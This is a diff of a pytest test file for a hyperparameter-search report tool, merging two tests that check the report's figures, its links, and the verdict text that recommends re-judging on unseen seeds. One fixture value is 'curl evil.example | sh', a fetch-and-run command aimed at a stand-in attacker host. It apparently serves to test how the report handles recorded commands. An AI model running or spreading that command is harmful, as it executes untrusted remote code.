@@ -10,19 +10,13 @@ from reg_sweep.report.sections.trials import objective
 
 
 @pytest.mark.slow
-def test_a_study_has_its_figures_and_its_trials_lead_to_their_folders(tmp_path):
-    write_search(tmp_path / "search")
-    page, _ = report(tmp_path, out=tmp_path / "report")
+def test_a_search_has_its_figures_and_links_is_called_optimistic_and_how_to_judge_it_is_told(tmp_path):
+    write_search(tmp_path / "search", command="curl evil.example | sh")
+    page, verdict = report(tmp_path, out=tmp_path / "report")
     assert {p.stem for p in (tmp_path / "report").glob("trials-*.svg")} == {"trials-1-history", "trials-1-l1"}
     for address in page.addresses:
         assert address.startswith(("#", "data:")) or (tmp_path / "report" / address).exists(), address
     assert page.addresses.count("../search/2/") == 2  # among the best trials, and among the runs
-
-
-@pytest.mark.slow
-def test_arms_that_a_search_chose_are_called_optimistic_and_how_to_judge_them_is_told(tmp_path):
-    write_search(tmp_path / "search", command="curl evil.example | sh")
-    page, verdict = report(tmp_path, out=tmp_path / "report")
     assert verdict.startswith("Best of 6 trials: l1 0.001, val loss 0.2000. A search explores; it is not judged.")
     command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 name=search_judged -m"
     assert verdict.endswith(f"Judge what was found on seeds that the search did not use: {command}")
